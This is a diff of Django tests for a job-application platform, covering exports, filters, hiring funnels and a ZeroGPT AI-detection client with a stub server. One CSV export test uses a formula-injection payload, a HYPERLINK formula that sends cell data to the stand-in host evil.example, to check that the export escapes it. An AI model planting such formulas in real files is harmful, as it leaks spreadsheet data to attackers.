+    def test_query_count_does_not_grow_with_ids(self):
+        for count in (2, 20):
+            ids = [
+                a.id for a in JobApplicationFactory.create_batch(count, job=self.job)
+            ]
+            # job, manager check, locking update
+            with self.assertNumQueries(3):
+                self.assertEqual(len(self.post(ids).data["updated"]), count)
+
+    def test_not_manager(self):
+        self.client.force_authenticate(user=UserFactory())
+        application = JobApplicationFactory(job=self.job)
+        response = self.post([application.id])
+        self.assertEqual(response.status_code, status.HTTP_403_FORBIDDEN)
+        application.refresh_from_db()
+        self.assertEqual(application.status, "A")
+
+    def test_invalid_payload(self):
+        response = self.post([], new_status="X")
+        self.assertEqual(response.status_code, status.HTTP_400_BAD_REQUEST)
+        self.assertEqual(set(response.data), {"ids", "status"})
+
+
+class ApplicantFilterTests(APITestCase):
+    def setUp(self):
+        self.manager = UserFactory()
+        self.company = CompanyFactory()
+        CompanyManagerFactory(company=self.company, manager=self.manager)
+        self.job = JobFactory(
+            company=self.company,
+            company_office=CompanyOfficeFactory(company=self.company),
+        )
+        self.url = reverse("list-job-applications", args=[self.job.id])
+        self.human = JobApplicationFactory(job=self.job, is_cover_letter_ai_generated=5)
+        self.ai = JobApplicationFactory(
+            job=self.job, is_cover_letter_ai_generated=95, status="I"
+        )
+        self.unscored = JobApplicationFactory(job=self.job, status="R")
+        JobApplication.objects.filter(pk=self.unscored.pk).update(
+            created_at=timezone.now() - timedelta(days=10)
+        )
+        self.client.force_authenticate(user=self.manager)
+
+    def applicants(self, params):
+        response = self.client.get(self.url, params)
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        return [row["user"]["email"] for row in response.data["results"]]
+
+    def emails(self, *applications):
+        return [application.user.email for application in applications]
+
+    def test_filters(self):
+        self.assertEqual(
+            self.applicants({"status": ["A", "I"]}), self.emails(self.human, self.ai)
+        )
+        self.assertEqual(self.applicants({"ai_score_max": 50}), self.emails(self.human))
+        self.assertEqual(
+            self.applicants({"ai_score_min": 50, "status": "I"}), self.emails(self.ai)
+        )
+        week_ago = (timezone.localdate() - timedelta(days=7)).isoformat()
+        self.assertEqual(
+            self.applicants({"applied_before": week_ago}), self.emails(self.unscored)
+        )
+        self.assertEqual(
+            self.applicants({"applied_after": week_ago}),
+            self.emails(self.human, self.ai),
+        )
+
+    def test_skills_filter(self):
+        Resume.objects.filter(pk=self.human.resume_id).update(
+            skills=["python", "react", "docker"]
+        )
+        Resume.objects.filter(pk=self.ai.resume_id).update(skills=["python"])
+        self.assertEqual(
+            self.applicants({"skills": ["Python"]}), self.emails(self.human, self.ai)
+        )
+        self.assertEqual(
+            self.applicants({"skills": ["python", "ReactJS"]}),
+            self.emails(self.human),
+        )
+        self.assertEqual(self.applicants({"skills": ["go"], "status": "A"}), [])
+
+    def test_filtered_page_query_budget(self):
+        JobApplicationFactory.create_batch(5, job=self.job, status="I")
+        # job, manager check, page
+        with self.assertNumQueries(3):
+            self.assertEqual(len(self.applicants({"status": "I"})), 6)
+
+    def test_invalid_filters(self):
+        response = self.client.get(
+            self.url, {"status": "X", "ai_score_min": 80, "ai_score_max": 20}
+        )
+        self.assertEqual(response.status_code, status.HTTP_400_BAD_REQUEST)
+        self.assertIn("status", response.data)
+
+
+class ApplicationExportTests(APITestCase):
+    def setUp(self):
+        self.manager = UserFactory()
+        self.company = CompanyFactory()
+        CompanyManagerFactory(company=self.company, manager=self.manager)
+        self.job = JobFactory(
+            company=self.company,
+            company_office=CompanyOfficeFactory(company=self.company),
+        )
+        self.url = reverse("export-job-applications", args=[self.job.id])
+        self.applications = JobApplicationFactory.create_batch(3, job=self.job)
+        JobApplicationFactory(job=self.job, status="R")
+        JobApplicationFactory()  # another job
+        self.client.force_authenticate(user=self.manager)
+
+    def export(self, params):
+        response = self.client.get(self.url, params)
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        self.assertTrue(response.streaming)
+        return response, b"".join(response.streaming_content).decode()
+
+    def test_export_csv(self):
+        response, content = self.export({})
+        self.assertEqual(response["Content-Type"], "text/csv")
+        self.assertEqual(
+            response["Content-Disposition"],
+            f'attachment; filename="job-{self.job.id}-applications.csv"',
+        )
+        rows = list(csv.DictReader(content.splitlines()))
+        self.assertEqual(len(rows), 4)
+        first = self.applications[0]
+        self.assertEqual(rows[0]["id"], str(first.id))
+        self.assertEqual(rows[0]["email"], first.user.email)
+        self.assertEqual(rows[0]["status"], "Applied")
+        self.assertTrue(rows[0]["resume"].startswith("http://testserver/"))
+
+    def test_export_csv_escapes_formulas(self):
+        letter = '=HYPERLINK("http://evil.example/?"&A1, "Click")'
+        application = self.applications[0]
+        JobApplication.objects.filter(pk=application.pk).update(cover_letter=letter)
+        application.user.first_name = "@SUM(1+1)"
+        application.user.last_name = "-2+3"
+        application.user.save()
+        _, content = self.export({})
+        row = next(csv.DictReader(content.splitlines()))
+        self.assertEqual(row["cover_letter"], "'" + letter)
+        self.assertEqual(row["first_name"], "'@SUM(1+1)")
+        self.assertEqual(row["last_name"], "'-2+3")
+        _, content = self.export({"type": "ndjson"})
+        self.assertEqual(json.loads(content.splitlines()[0])["cover_letter"], letter)
+
+    def test_export_ndjson_filtered(self):
+        response, content = self.export({"type": "ndjson", "status": "A"})
+        self.assertEqual(response["Content-Type"], "application/x-ndjson")
+        rows = [json.loads(line) for line in content.splitlines()]
+        self.assertEqual(
+            [row["id"] for row in rows],
+            [application.id for application in self.applications],
+        )
+
+    def test_export_query_budget(self):
+        JobApplicationFactory.create_batch(5, job=self.job)
+        response = self.client.get(self.url)
+        # rows are read while streaming, with users and resumes joined in
+        with self.assertNumQueries(1):
+            content = b"".join(response.streaming_content).decode()
+        self.assertEqual(len(list(csv.DictReader(content.splitlines()))), 9)
+
+    def test_export_requires_manager(self):
+        self.client.force_authenticate(user=UserFactory())
+        response = self.client.get(self.url)
+        self.assertEqual(response.status_code, status.HTTP_403_FORBIDDEN)
+
+    def test_export_invalid_type(self):
+        response = self.client.get(self.url, {"type": "xlsx"})
+        self.assertEqual(response.status_code, status.HTTP_400_BAD_REQUEST)
+
+
+class HiringFunnelTests(APITestCase):
+    def setUp(self):
+        self.manager = UserFactory()
+        self.company = CompanyFactory()
+        CompanyManagerFactory(company=self.company, manager=self.manager)
+        self.job = JobFactory(
+            company=self.company,
+            company_office=CompanyOfficeFactory(company=self.company),
+        )
+        self.other_job = JobFactory(
+            company=self.company,
+            company_office=CompanyOfficeFactory(company=self.company),
+        )
+        self.applications = JobApplicationFactory.create_batch(3, job=self.job)
+        JobApplicationFactory(job=self.other_job, status="I")
+        self.client.force_authenticate(user=self.manager)
+
+    def funnel(self):
+        # every application here was made today, so the job has one row
+        return (
+            HiringFunnel.objects.filter(job=self.job)
+            .values("applied", "invited", "rejected", "hired")
+            .get()
+        )
+
+    def assertRebuildAgrees(self):
+        incremental = set(
+            HiringFunnel.objects.values_list(
+                "job", "company", "day", "applied", "invited", "rejected", "hired"
+            )
+        )
+        call_command("rebuild_hiring_funnel", stdout=StringIO())
+        rebuilt = set(
+            HiringFunnel.objects.values_list(
+                "job", "company", "day", "applied", "invited", "rejected", "hired"
+            )
+        )
+        self.assertEqual(incremental, rebuilt)
+
+    def test_counts_follow_applications(self):
+        self.assertEqual(
+            self.funnel(),
+            {"applied": 3, "invited": 0, "rejected": 0, "hired": 0},
+        )
+        first, second, third = self.applications
+        self.client.patch(
+            reverse("job-application-update", args=[first.id]), {"status": "I"}
+        )
+        self.client.post(
+            reverse("bulk-update-job-applications-status", args=[self.job.id]),
+            {"ids": [first.id, second.id], "status": "H"},
+            format="json",
+        )
+        third.delete()
+        self.assertEqual(
+            self.funnel(),
+            {"applied": 0, "invited": 0, "rejected": 0, "hired": 2},
+        )
+        self.assertRebuildAgrees()
+
+    def test_status_change_through_save(self):
+        application = self.applications[0]
+        application.status = "R"
+        application.save()
+        self.assertEqual(
+            self.funnel(),
+            {"applied": 2, "invited": 0, "rejected": 1, "hired": 0},
+        )
+        self.assertRebuildAgrees()
+
+    def test_apply_is_counted_once(self):
+        applicant = UserFactory()
+        self.client.force_authenticate(user=applicant)
+        data = {
+            "job": self.job.id,
+            "resume": ResumeFactory(user=applicant).id,
+            "cover_letter": "Hi",
+        }
+        response = self.client.post(reverse("apply-job"), data, format="json")
+        self.assertEqual(response.status_code, status.HTTP_201_CREATED)
+        self.assertEqual(self.funnel()["applied"], 4)
+        self.assertRebuildAgrees()
+
+    def test_deleting_job_drops_its_rollups(self):
+        self.job.delete()
+        self.assertFalse(HiringFunnel.objects.filter(job_id=self.job.id).exists())
+        self.assertTrue(HiringFunnel.objects.filter(job=self.other_job).exists())
+
+    def test_job_funnel(self):
+        url = reverse("job-hiring-funnel", args=[self.job.id])
+        # job, manager check, rollups
+        with self.assertNumQueries(3):
+            response = self.client.get(url, {"period": "month"})
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        totals = {"applied": 3, "invited": 0, "rejected": 0, "hired": 0}
+        self.assertEqual(response.data["totals"], totals)
+        month = timezone.localdate().replace(day=1)
+        self.assertEqual(response.data["series"], [{"period": month, **totals}])
+
+        tomorrow = timezone.localdate() + timedelta(days=1)
+        response = self.client.get(url, {"since": tomorrow.isoformat()})
+        self.assertEqual(response.data["series"], [])
+
+    def test_company_funnel(self):
+        response = self.client.get(
+            reverse("company-hiring-funnel", args=[self.company.id])
+        )
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        self.assertEqual(
+            response.data["totals"],
+            {"applied": 3, "invited": 1, "rejected": 0, "hired": 0},
+        )
+        self.assertEqual(
+            [
+                (row["job"], row["applied"], row["invited"])
+                for row in response.data["jobs"]
+            ],
+            [(self.job.id, 3, 0), (self.other_job.id, 0, 1)],
+        )
+
+    def test_funnel_requires_manager(self):
+        self.client.force_authenticate(user=UserFactory())
+        for url in (
+            reverse("job-hiring-funnel", args=[self.job.id]),
+            reverse("company-hiring-funnel", args=[self.company.id]),
+        ):
+            response = self.client.get(url)
+            self.assertEqual(response.status_code, status.HTTP_403_FORBIDDEN)
+
+    def test_invalid_range(self):
+        response = self.client.get(
+            reverse("job-hiring-funnel", args=[self.job.id]),
+            {"since": "2026-02-01", "until": "2026-01-01"},
+        )
+        self.assertEqual(response.status_code, status.HTTP_400_BAD_REQUEST)
+
+
+class StubZeroGPTMixin:
+    """
+    Serves ZeroGPT replies from a local server, with `self.zerogpt` and
+    `self.async_zerogpt` pointed at it.
+    """
+
+    def setUp(self):
+        super().setUp()
+        self.server = ZeroGPTStubServer(
+            latency=0,
+            jitter=0,
+            report={"success": True, "data": {"fakePercentage": 12.5}},
+        )
+        url = self.server.start()
+        self.addCleanup(self.server.stop)
+
+        self.breaker = CircuitBreaker(uuid.uuid4().hex, threshold=2, cooldown=60)
+        self.addCleanup(
+            cache.delete_many, [self.breaker.failures_key, self.breaker.open_key]
+        )
+        self.zerogpt = ZeroGPTClient(
+            url=url,
+            timeout=(1, 0.5),
+            retries=2,
+            backoff_factor=0,
+            breaker=self.breaker,
+        )
+        self.async_zerogpt = AsyncZeroGPTClient(
+            url=url,
+            timeout=(1, 0.5),
+            retries=2,
+            backoff_factor=0,
+            concurrency=3,
+            breaker=self.breaker,
+        )
+
+
+class ZeroGPTClientTests(StubZeroGPTMixin, SimpleTestCase):
+    def test_connections_are_reused(self):
+        for _ in range(3):
+            report = self.zerogpt.detect("text")
+        self.assertEqual(report["data"]["fakePercentage"], 12.5)
+        self.assertEqual(self.server.stats["requests"], 3)
+        self.assertEqual(self.server.stats["connections"], 1)
+
+    def test_server_errors_are_retried(self):
+        self.server.replies = [(503, 0), (429, 0)]
+        self.assertTrue(self.zerogpt.detect("text")["success"])
+        self.assertEqual(self.server.stats["requests"], 3)
+
+    def test_slow_replies_time_out(self):
+        self.server.replies = [(200, 1)] * 3
+        with self.assertRaises(AIDetectionUnavailable):
+            self.zerogpt.detect("text")
+
+    def test_breaker_fails_fast_once_open(self):
+        self.server.replies = [(500, 0)] * 6
+        for _ in range(2):
+            with self.assertRaises(AIDetectionUnavailable):
+                self.zerogpt.detect("text")
+        self.assertEqual(self.server.stats["requests"], 6)
+
+        with self.assertRaises(AIDetectionUnavailable) as raised:
+            self.zerogpt.detect("text")
+        self.assertEqual(self.server.stats["requests"], 6)
+        self.assertGreater(raised.exception.retry_after, 50)
+
+        # after the cooldown, a success closes it again
+        cache.delete(self.breaker.open_key)
+        self.zerogpt.detect("text")
+        self.assertIsNone(cache.get(self.breaker.failures_key))
+
+
+class AIDetectionCacheTests(StubZeroGPTMixin, TestCase):
+    def setUp(self):
+        super().setUp()
+        # Redis outlives the test database, so every test checks new texts
+        self.text = f"Dear hiring team, {uuid.uuid4().hex} is my reference."
+        self.addCleanup(cache.delete, f"ai-detection:{text_digest(self.text)}")
+
+    def test_repeated_text_is_checked_once(self):
+        report = detect_ai_report(self.text, client=self.zerogpt)
+        self.assertEqual(report_score(report), 12.5)
+        reformatted = "  " + self.text.replace(" ", "\n\t ")
+        self.assertEqual(detect_ai_report(reformatted, client=self.zerogpt), report)
+        self.assertEqual(self.server.stats["requests"], 1)
+        self.assertEqual(
+            AIDetectionResult.objects.get(digest=text_digest(self.text)).score, 12.5
+        )
+
+    def test_table_backs_the_cache(self):
+        detect_ai_report(self.text, client=self.zerogpt)
+        cache.delete(f"ai-detection:{text_digest(self.text)}")
+        detect_ai_report(self.text, client=self.zerogpt)
+        self.assertEqual(self.server.stats["requests"], 1)
+        self.assertIsNotNone(cache.get(f"ai-detection:{text_digest(self.text)}"))
+
+    def test_failed_reports_are_not_kept(self):
+        self.server.report = {"success": False, "message": "quota exceeded"}
+        detect_ai_report(self.text, client=self.zerogpt)
+        detect_ai_report(self.text, client=self.zerogpt)
+        self.assertEqual(self.server.stats["requests"], 2)
+        self.assertFalse(AIDetectionResult.objects.exists())
+
+
+# every letter is ambiguous to the local pre-filter, so all reach the stub
+@override_settings(AI_PREFILTER_HUMAN_MAX=-1)
+class BatchedDetectionTests(StubZeroGPTMixin, TestCase):
+    def setUp(self):
+        super().setUp()
+        self.job = JobFactory()
+
+    def letter(self):
+        text = f"{uuid.uuid4().hex} " + "I would love to join your team. " * 6
+        self.addCleanup(cache.delete, f"ai-detection:{text_digest(text)}")
+        return text
+
+    def test_pending_applications_are_drained(self):
+        template = self.letter()
+        applications = [
+            JobApplicationFactory(job=self.job, cover_letter=letter)
+            for letter in [template, template, self.letter(), self.letter()]
+        ]
+        short = JobApplicationFactory(job=self.job, cover_letter="Hire me, please.")
+        JobApplication.objects.update(is_cover_letter_ai_report=None)
+
+        scored = score_pending_applications(batch_size=3, client=self.async_zerogpt)
+        self.assertEqual(scored, 4)
+        self.assertEqual(self.server.stats["requests"], 3)  # the template is sent once
+        for application in applications:
+            application.refresh_from_db()
+            self.assertEqual(application.is_cover_letter_ai_generated, 12.5)
+        short.refresh_from_db()
+        self.assertIsNone(short.is_cover_letter_ai_report)
+
+        self.assertEqual(score_pending_applications(client=self.async_zerogpt), 0)
+        self.assertEqual(self.server.stats["requests"], 3)
+
+    def test_requests_in_flight_are_bounded(self):
+        for _ in range(6):
+            JobApplicationFactory(job=self.job, cover_letter=self.letter())
+        self.server.latency = 0.1
+        self.assertEqual(score_pending_applications(client=self.async_zerogpt), 6)
+        self.assertEqual(self.server.stats["peak"], 3)
+
+    def test_failed_letters_stay_pending(self):
+        application = JobApplicationFactory(job=self.job, cover_letter=self.letter())
+        self.server.error_rate = 1
+        self.assertEqual(score_pending_applications(client=self.async_zerogpt), 0)
+        application.refresh_from_db()
+        self.assertIsNone(application.is_cover_letter_ai_report)
+        self.assertIsNone(application.ai_detection_claimed_until)  # released
+
+    def test_drain_is_requeued_while_the_breaker_is_open(self):
+        JobApplicationFactory(job=self.job, cover_letter=self.letter())
+        breaker = zerogpt_breaker()
+        cache.set(breaker.open_key, time.time() + 60, timeout=60)
+        self.addCleanup(cache.delete, breaker.open_key)
+        OutboxMessage.objects.all().delete()
+
+        self.assertEqual(score_pending_applications_task(), 0)
+        message = OutboxMessage.objects.get()
+        self.assertEqual(message.task, SCORE_TASK)
+        self.assertGreater(message.available_at, timezone.now() + timedelta(seconds=50))
+
+    def test_claimed_letters_are_skipped(self):
+        JobApplicationFactory(job=self.job, cover_letter=self.letter())
+        pending = JobApplication.objects.filter(PENDING_DETECTION)
+        self.assertEqual(len(claim_pending_applications(pending, 10)), 1)
+        self.assertEqual(claim_pending_applications(pending, 10), [])
+        self.assertEqual(score_pending_applications(client=self.async_zerogpt), 0)
+        self.assertEqual(self.server.stats["requests"], 0)
+
+    def test_detector_runs_outside_the_claim(self):
+        application = JobApplicationFactory(job=self.job, cover_letter=self.letter())
+        depth = len(connection.atomic_blocks)
+        score = detection.score_applications
+
+        def score_applications(batch, client=None, using="default"):
+            # no transaction (or row lock) is held while ZeroGPT is called
+            self.assertEqual(len(connection.atomic_blocks), depth)
+            # a report written meanwhile is not overwritten
+            JobApplication.objects.filter(pk=application.pk).update(
+                is_cover_letter_ai_report={"success": True, "source": "manual"}
+            )
+            return score(batch, client, using)
+
+        with mock.patch.object(detection, "score_applications", score_applications):
+            score_pending_applications(client=self.async_zerogpt)
+        application.refresh_from_db()
+        self.assertEqual(application.is_cover_letter_ai_report["source"], "manual")
+
+
+UNIFORM_LETTER = (
+    "I am writing to express my interest in the role. I have strong "
+    "experience in software development. I am confident that my skills align "
+    "with your needs. I look forward to contributing to your team. Thank you "
+    "for considering my application."
+)
+VARIED_LETTER = (
+    "Hi! So - I saw the posting last night (my friend Tom, who works in your "
+    "Lisbon office, sent it over) and honestly got a bit too excited. Short "
+    "version: I've shipped Django apps for six years. Some were great; one, a "
+    "scheduling tool for a dentist, was a disaster, and I learned more from "
+    "it than from anything else. Happy to talk. Anytime."
+)
+
+
+class StylometricPrefilterTests(StubZeroGPTMixin, APITestCase):
+    def test_features(self):
+        [features] = stylometric_features(["One two three. Four five six!"])
+        diversity, spread, burstiness, _, punctuation = features
+        self.assertAlmostEqual(diversity, 6 / 6**0.5)
+        self.assertEqual(spread, 0)
+        self.assertEqual(burstiness, -1)
+        self.assertEqual(punctuation, 0)
+
+    def test_batch_matches_single_letters(self):
+        letters = [UNIFORM_LETTER, VARIED_LETTER, "", "No sentence end"]
+        batch = local_scores(letters)
+        self.assertEqual(list(batch), [local_scores([letter])[0] for letter in letters])
+        self.assertGreater(batch[0], 85)
+        self.assertLess(batch[1], 15)
+
+    def test_only_clearly_human_letters_skip_the_api(self):
+        job = JobFactory()
+        uniform = JobApplicationFactory(job=job, cover_letter=UNIFORM_LETTER * 2)
+        varied = JobApplicationFactory(job=job, cover_letter=VARIED_LETTER)
+        key = f"ai-detection:{text_digest(uniform.cover_letter)}"
+        cache.delete(key)
+        self.addCleanup(cache.delete, key)
+        self.assertEqual(score_pending_applications(client=self.async_zerogpt), 2)
+        # a high local score is only preliminary: ZeroGPT has the last word
+        self.assertEqual(self.server.stats["requests"], 1)
+        uniform.refresh_from_db()
+        varied.refresh_from_db()
+        self.assertNotIn("source", uniform.is_cover_letter_ai_report)
+        self.assertEqual(uniform.is_cover_letter_ai_generated, 12.5)
+        self.assertEqual(varied.is_cover_letter_ai_report["source"], "local")
+        self.assertLess(varied.is_cover_letter_ai_generated, 15)
+
+    def test_apply_scores_immediately(self):
+        user = UserFactory()
+        self.client.force_authenticate(user=user)
+        data = {
+            "job": JobFactory().id,
+            "resume": ResumeFactory(user=user).id,
+            "cover_letter": UNIFORM_LETTER * 2,
+        }
+        response = self.client.post(reverse("apply-job"), data, format="json")
+        self.assertEqual(response.status_code, status.HTTP_201_CREATED)
+        application = JobApplication.objects.get(user=user)
+        self.assertGreater(application.is_cover_letter_ai_generated, 85)
+        self.assertIsNone(application.is_cover_letter_ai_report)
+
+        application.delete()
+        data["cover_letter"] = VARIED_LETTER
+        response = self.client.post(reverse("apply-job"), data, format="json")
+        self.assertEqual(response.status_code, status.HTTP_201_CREATED)
+        application = JobApplication.objects.get(user=user)
+        self.assertLess(application.is_cover_letter_ai_generated, 15)
+        self.assertEqual(application.is_cover_letter_ai_report["source"], "local")
+
+
+class ZeroGPTStubServerTests(SimpleTestCase):
+    def start(self, **kwargs):
+        server = ZeroGPTStubServer(latency=0, jitter=0, seed=1, **kwargs)
+        url = server.start()
+        self.addCleanup(server.stop)
+        breaker = CircuitBreaker(uuid.uuid4().hex, threshold=5, cooldown=60)
+        self.addCleanup(cache.delete_many, [breaker.failures_key, breaker.open_key])
+        return server, ZeroGPTClient(url=url, retries=0, breaker=breaker)
+
+    def test_scores_are_deterministic(self):
+        _, client = self.start()
+        first = client.detect("Some cover letter")
+        self.assertEqual(client.detect("Some cover letter"), first)
+        self.assertTrue(0 <= report_score(first) <= 100)
+
+    def test_errors_and_throttling(self):
+        server, client = self.start(error_rate=1)
+        with self.assertRaises(AIDetectionUnavailable):
+            client.detect("text")
+        self.assertEqual(server.stats["errors"], 1)
+
+        server, client = self.start(rate_limit=1)
+        client.detect("text")
+        with self.assertRaises(AIDetectionUnavailable):
+            client.detect("text")
+        self.assertEqual(server.stats["throttled"], 1)
+
+
+# the benchmark switches the connection to a database of its own
+class AIDetectionBenchmarkTests(TransactionTestCase):
+    databases = {"default", "benchmark"}
+
+    def setUp(self):
+        stub = ZeroGPTStubServer(latency=0, jitter=0, seed=1)
+        url = stub.start()
+        self.addCleanup(stub.stop)
+        self.enterContext(override_settings(ZERO_GPT_URL=url))
+        # a worker of its own, on an in-memory broker, runs the drains
+        app = Celery("benchmark-tests", broker="memory://")
+        app.task(name=SCORE_TASK)(score_pending_applications_task.run)
+        with app.connection_for_write() as connection:
+            connection.default_channel.queue_purge("celery")
+        for module in ("job.outbox", "job.management.commands.benchmark_ai_detection"):
+            self.enterContext(mock.patch(f"{module}.current_app", app))
+        self.enterContext(start_worker(app, pool="solo", perform_ping_check=False))
+
+    def test_benchmark(self):
+        out = StringIO()
+        call_command("benchmark_ai_detection", applications=20, drains=2, stdout=out)
+        self.assertIn("Scored 20/20 applications", out.getvalue())
+        self.assertIn("scored/s", out.getvalue())
+        self.assertIn("of 1 slots", out.getvalue())
+        for model in (JobApplication, AIDetectionResult, OutboxMessage):
+            self.assertFalse(model.objects.using("benchmark").exists())
+
+    def test_refuses_the_default_database(self):
+        with self.assertRaises(CommandError):
+            call_command("benchmark_ai_detection", database="default")
+
+    @override_settings(ZERO_GPT_URL="https://api.zerogpt.com/api/detect/detectText")
+    def test_refuses_the_real_detector(self):
+        with self.assertRaises(CommandError):
+            call_command("benchmark_ai_detection", applications=1)
+        self.assertFalse(JobApplication.objects.using("benchmark").exists())
+
+
+class OutboxTests(APITestCase):
+    def setUp(self):
+        self.app = Celery("outbox-tests", broker="memory://")
+        with self.app.connection_for_write() as connection:
+            connection.default_channel.queue_purge("celery")
+
+    def queued(self):
+        with self.app.connection_for_write() as connection:
+            channel = connection.default_channel
+            return channel.queue_declare("celery", passive=True).message_count
+
+    @override_settings(AI_PREFILTER_HUMAN_MAX=-1)
+    def test_apply_queues_scoring_in_the_same_statement(self):
+        user = UserFactory()
+        self.client.force_authenticate(user=user)
+        data = {
+            "job": JobFactory().id,
+            "resume": ResumeFactory(user=user).id,
+            "cover_letter": VARIED_LETTER,
+        }
+        with self.assertNumQueries(1):
+            response = self.client.post(reverse("apply-job"), data, format="json")
+        self.assertEqual(response.status_code, status.HTTP_201_CREATED)
+        message = OutboxMessage.objects.get(task=SCORE_TASK)
+        self.assertGreater(message.available_at, timezone.now())
+
+    def test_only_letters_left_to_score_queue_a_drain(self):
+        JobApplicationFactory(cover_letter="Hi")
+        self.assertFalse(OutboxMessage.objects.filter(task=SCORE_TASK).exists())
+        JobApplicationFactory(cover_letter=VARIED_LETTER)
+        self.assertTrue(OutboxMessage.objects.filter(task=SCORE_TASK).exists())
+
+    def test_identical_calls_are_published_once(self):
+        for _ in range(3):
+            enqueue(SCORE_TASK)
+        enqueue("users.tasks.analyze_resume_task", [1])
+        enqueue(SCORE_TASK, countdown=60)
+        self.assertEqual(relay_outbox(app=self.app), 4)
+        self.assertEqual(self.queued(), 2)
+        self.assertEqual(OutboxMessage.objects.count(), 1)  # not due yet
+
+    def test_relay_drains_batch_after_batch(self):
+        for resume_id in range(5):
+            enqueue("users.tasks.analyze_resume_task", [resume_id])
+        self.assertEqual(relay_outbox(batch_size=2, app=self.app), 5)
+        self.assertEqual(self.queued(), 5)
+        self.assertFalse(OutboxMessage.objects.exists())
+
+    def test_messages_are_kept_while_the_broker_is_down(self):
+        enqueue(SCORE_TASK)
+        with mock.patch.object(
+            self.app, "send_task", side_effect=OperationalError("refused")
+        ):
+            self.assertEqual(relay_outbox(app=self.app), 0)
+        message = OutboxMessage.objects.get()
+        self.assertEqual(message.attempts, 1)
+        self.assertIn("refused", message.last_error)
+        self.assertGreater(message.available_at, timezone.now())
+        self.assertEqual(relay_outbox(app=self.app), 0)  # backing off